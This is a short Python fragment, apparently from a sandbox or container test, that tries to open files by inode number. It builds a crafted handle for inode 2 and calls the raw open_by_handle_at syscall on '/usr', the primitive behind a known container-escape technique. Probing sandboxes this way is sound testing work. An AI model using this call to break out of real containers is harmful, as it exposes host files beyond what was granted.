# files by their number (open_by_handle_at)
# attempts

handle = ctypes.create_string_buffer(b'\x08\0\0\0\x01\0\0\0\x02' + bytes(128))
assert libc.syscall(304, os.open('/usr', 0), handle, 0) >= 0
